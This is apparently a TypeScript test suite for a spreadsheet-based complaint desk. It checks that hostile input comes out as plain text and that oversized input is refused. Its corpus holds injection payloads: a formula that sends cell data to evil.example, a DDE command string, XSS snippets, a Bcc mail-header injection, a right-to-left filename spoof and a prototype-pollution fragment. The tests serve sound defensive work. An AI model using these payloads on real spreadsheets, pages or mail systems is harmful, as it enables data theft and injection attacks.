/** Hostile text through every way into the desk, and what comes out of every way out of it: everywhere it is text and nothing else. */
import { columnLetters } from '../../src/google/columnLetters';
import { SHEETS } from '../../src/sheets/sheets';
import { deskSheet } from '../../workbench/driver/deskRows';
import type { DrivenDesk } from '../../workbench/driver/openDesk';
import { faultsOf, refusalOf, rowOf } from './deskFacts';
import { OWNER, REGISTRAR, SUPERVISOR, WORKER } from './deskStaff';
import { surveyLinkOf } from './stages';
import { smallDesk, worldOf } from './worlds';

/** What is seen nowhere and turns what is read, written as such here. */
const [RIGHT_TO_LEFT, ZERO_WIDTH, BELL, HALF] = ['\u202e', '\u200b', '\u0007', '\ud800'];

const CORPUS: readonly (readonly [name: string, text: string])[] = [
  ['a formula', '=IMPORTXML("https://evil.example/?"&A1,"//a")'],
  ['a formula after a blank', ' =HYPERLINK("https://evil.example","x")'],
  ['a plus', '+1+cmd|calc'],
  ['a minus', '-2+3'],
  ['an at', '@SUM(1+1)'],
  ['a wide equals sign', '＝1+1'],
  ['an apostrophe', "'=1+1"],
  ['an image', '<img src=x onerror=alert(1)>'],
  ['a script', '"><script>alert(1)</script>'],
  ['a script address', 'javascript:alert(1)//https://x.example'],
  ['a header', 'A\r\nBcc: victim@evil.example\r\n\r\nBody'],
  ['a line end of Unicode', 'A\u2028Bcc: victim@evil.example'],
  ['a text that turns round', `invoice${RIGHT_TO_LEFT}fdp.exe`],
  ['what is not seen', `pay${ZERO_WIDTH}pal${BELL}${HALF}`],
  ['a template', '{{customerName}} ${1+1} <?= 1+1 ?> %s {ticketNo}'],
  ['emoji and rare characters', '👨‍👩‍👧‍👦 𠮷野家 ﷽'],
  ['an end of JSON', '"}],"x":{"__proto__":{"a":1}},[{"'],
  ['a prototype', '__proto__'],
  ['a number that is a date', '3-4'],
];

/** What a mail of the desk is made of. */
const ELEMENTS = ['!doctype', 'html', 'head', 'meta', 'body', 'table', 'tr', 'th', 'td', 'p', 'a', 'br'];

let fresh: () => DrivenDesk;
/** Formulas that the desk itself has, by sheet. */
let ownFormulas: ReadonlyMap<string, number>;

const formulasOf = (desk: DrivenDesk): ReadonlyMap<string, number> =>
  new Map(
    SHEETS.filter(({ id }) => desk.runtime.tabs().length > 0 && hasSheet(desk, id)).map(({ id }) => {
      const { tab } = deskSheet(desk.runtime, id);
      const rows = desk.runtime.view(tab, 1, 60, OWNER);
      return [id, rows.flat().filter((cell) => cell.formula !== undefined && cell.formula !== '').length];
    }),
  );
function hasSheet(desk: DrivenDesk, id: string): boolean {
  try {
    return deskSheet(desk.runtime, id).places.size > 0;
  } catch {
    return false;
  }
}

beforeAll(async () => {
  const desk = await smallDesk({ deployment: 'addOn' });
  fresh = worldOf(desk);
  ownFormulas = formulasOf(desk);
});

/** What of the text may be seen: nothing that has no shape of its own. */
const seen = (text: string): string =>
  text
    .replace(/\r\n|\u2028/g, '\n')
    .replace(/[\p{Cc}\p{Cs}\u202e\u200b]/gu, (sign) => (sign === '\n' ? sign : ''))
    .trim();

test.each(CORPUS)('%s goes in by every command and comes out as text', (_name, text) => {
  const desk = fresh();
  const call = (mail: string, command: string, args: Readonly<Record<string, unknown>>): unknown =>
    desk.as(mail).call(command, { ...args, requestId: `${command}/${text}`.slice(0, 80) });
  const { ticketNo } = call(REGISTRAR, 'registerComplaint', {
    channel: 'mail',
    customer: { name: text, phone: text, mail: 'ada@example.org', address: text, customerNo: text },
    category1: 'Technical fault',
    category2: 'Cannot log in',
    description: text,
    ...{ product: text, orderNo: text, batch: text, serialNo: text, region: text, remark: text, request: text },
  }) as { ticketNo: string };
  const on = (mail: string, command: string, args: Readonly<Record<string, unknown>> = {}): unknown =>
    call(mail, command, { ticketNo, ...args });
  on(WORKER, 'acknowledge');
  on(WORKER, 'respond', { channel: 'phone', note: text });
  on(WORKER, 'logProgress', { note: text, link: 'https://a.example', source: text });
  on(WORKER, 'recordFindings', { findings: text, rootCause: text, responsible: text });
  on(WORKER, 'hold', { waitingFor: 'customer', reason: text });
  on(WORKER, 'resume', { note: text });
  on(WORKER, 'escalate', { reason: text, support: text });
  on(SUPERVISOR, 'evaluateEscalation', { decision: text });
  on(WORKER, 'notifyDelay', { channel: 'mail', reason: text, newDueAt: '2026-03-09T12:00:00+08:00' });
  on(WORKER, 'revealContact', { reason: text });
  on(WORKER, 'proposeSolution', { solution: text, executor: text });
  on(SUPERVISOR, 'reviewSolution', { approve: true, note: text });
  on(WORKER, 'informCustomer', { channel: 'mail', note: text });
  on(WORKER, 'recordVerdict', { satisfied: true, comment: text });
  desk.advance('PT2H');
  desk.submitForm('survey', { q1: 1, r1: text, q2: text }, surveyLinkOf(desk));
  on(SUPERVISOR, 'contactLowScore', { reason: text, note: text });
  on(SUPERVISOR, 'openMeasure', { measure: text, rootCause: text, owner: WORKER, dueOn: '2026-04-30' });
  on(WORKER, 'completeMeasure', { measureNo: 1, result: text });
  on(SUPERVISOR, 'verifyMeasure', { measureNo: 1, effective: true, note: text });
  call(SUPERVISOR, 'importRun', {
    source: 'old',
    headings: ['What', 'Name', 'Received'],
    rows: [[text, text, '2026-02-01']],
    mapping: { description: ['What'], customerName: ['Name'], receivedAt: ['Received'] },
    otherCategory: { category1: 'Technical fault', category2: 'Cannot log in' },
  });
  // By hand into cells that people may fill, and into the rules of the desk.
  for (const column of ['product', 'region', 'remark', 'description'])
    desk.as(WORKER).edit('tickets', ticketNo, column, text);
  desk.as(OWNER).edit('settings', 'deskName', 'value', text);
  desk.as(OWNER).edit('staff', WORKER, 'name', text);
  desk.advance('P1D');

  // Cells: no formula that the desk did not have, and the text as it was typed.
  expect(formulasOf(desk)).toEqual(ownFormulas);
  const [row] = desk.rows('tickets');
  for (const column of ['solution', 'comment', 'batch', 'orderNo'])
    expect([column, row?.[column]]).toEqual([column, seen(text)]);
  const said = seen(text);
  const card = desk.as(SUPERVISOR).call<{ solution: string; history: { note: string }[] }>('getTicket', { ticketNo });
  expect(card.solution).toBe(said);
  expect(card.history.filter(({ note }) => note === said).length).toBeGreaterThan(5);

  // Mails: one line a header, nobody else is written to, no element of the customer's, and the words are there.
  for (const { to, cc, bcc, subject, name, htmlBody, body } of desk.mails()) {
    const recipients = [...to, ...cc, ...bcc];
    for (const header of [...recipients, subject, name])
      expect(header).not.toMatch(/[\p{Cc}\p{Cs}\u2028\u2029\u202e\u200b]/u);
    expect(recipients.join()).not.toContain('evil.example');
    const elements = [...htmlBody.matchAll(/<\/?([a-z!][^\s>]*)/gi)].map(([, element = '']) => element.toLowerCase());
    expect(elements.filter((element) => !ELEMENTS.includes(element))).toEqual([]);
    const addresses = [...htmlBody.matchAll(/(?:href|src)\s*=\s*["']?([^"'>\s]*)/gi)].map(([, address]) => address);
    expect(
      addresses.filter((address) => !address?.startsWith('https:') && !seen(text).includes(address ?? '')),
    ).toEqual([]);
    expect(htmlBody + body).not.toMatch(/[\p{Cs}\u202e\u200b]/u);
  }
  const told = desk.mails().find(({ to, body }) => to.includes('ada@example.org') && body.includes(said));
  expect(told).toBeDefined();
  expect(faultsOf(desk)).toEqual([]);
});

describe('a text of 50,000 characters', () => {
  const long = '长'.repeat(50_000);
  const complaint = {
    channel: 'phone',
    customer: { name: 'Ada' },
    category1: 'Technical fault',
    category2: 'Cannot log in',
  };
  const short = (desk: DrivenDesk): string =>
    desk.as(REGISTRAR).call<{ ticketNo: string }>('registerComplaint', { ...complaint, description: 'Short.' })
      .ticketNo;

  test('is refused by a command, which names the field, and changes nothing', () => {
    const desk = fresh();
    const refused = refusalOf(() => desk.as(REGISTRAR).call('registerComplaint', { ...complaint, description: long }));
    expect(refused?.code).toBe('ARGUMENTS_WRONG');
    expect(refused?.remedy).toContain('10000');
    expect(desk.rows('log')).toHaveLength(0);
  });

  test('is put back where it was typed into the register, with a note that keeps it', () => {
    const desk = fresh();
    const ticketNo = short(desk);
    for (const column of ['description', 'product']) desk.as(WORKER).edit('tickets', ticketNo, column, long);
    expect(rowOf(desk, ticketNo)).toMatchObject({ description: 'Short.', product: '' });
    const { tab, places } = deskSheet(desk.runtime, 'tickets');
    const [row = []] = desk.runtime.view(tab, 2, 1, OWNER);
    const note = row[(places.get('description') ?? 0) - 1]?.note ?? '';
    expect(note).toContain('50000 characters; at most 10000');
    expect(note).toContain(long.slice(0, 1_000));
    desk.advance('P1D');
    expect(faultsOf(desk)).toEqual([]);
  });

  test('of an old table is a row that is named and left out', () => {
    const desk = fresh();
    const table = {
      source: 'old',
      headings: ['What'],
      mapping: { description: ['What'] },
      otherCategory: { category1: 'Technical fault', category2: 'Cannot log in' },
    };
    expect(desk.as(SUPERVISOR).call('importRun', { ...table, rows: [[long], ['Short.']] })).toMatchObject({
      rejected: [{ row: expect.any(Number) as number, problem: 'tooLong', found: '50000' }],
    });
    expect(desk.rows('tickets')).toHaveLength(1);
    expect(faultsOf(desk)).toEqual([]);
  });

  test.each([
    'settings',
    'staff',
    'matrix',
    'categories',
    'targets',
    'ladder',
    'solutions',
    'templates',
    'calendar',
  ] as const)('in the sheet %s leaves the desk at work', (sheet) => {
    const desk = fresh();
    const { tab, places } = deskSheet(desk.runtime, sheet);
    for (const place of places.values()) desk.runtime.as(OWNER).type(tab, `${columnLetters(place)}3`, long);
    desk.advance('PT2H');
    const ticketNo = short(desk);
    desk.advance('P1D');
    expect(rowOf(desk, ticketNo)['status']).not.toBe('');
    expect(desk.rows('health').filter(({ finding }) => finding === 'defect')).toEqual([]);
  });
});

test('a ticket takes as much text as fits its cells, refuses more in words, and stays at work', () => {
  const desk = fresh();
  const text = '"'.repeat(9_900);
  const { ticketNo } = desk.as(REGISTRAR).call<{ ticketNo: string }>('registerComplaint', {
    channel: 'phone',
    customer: { name: 'Ada' },
    category1: 'Technical fault',
    category2: 'Cannot log in',
    description: text,
  });
  desk.as(WORKER).call('acknowledge', { ticketNo });
  const propose = (): unknown => desk.as(WORKER).call('proposeSolution', { ticketNo, solution: text });
  const { length } = desk.rows('log');
  expect(refusalOf(propose)).toMatchObject({ code: 'TICKET_FULL', remedy: expect.stringContaining('link') as string });
  expect(desk.rows('log')).toHaveLength(length);
  desk.as(WORKER).call('proposeSolution', { ticketNo, solution: 'See the file.' });
  desk.advance('P3D');
  expect(faultsOf(desk)).toEqual([]);
  expect(rowOf(desk, ticketNo)).toMatchObject({ description: text, solution: 'See the file.' });
});
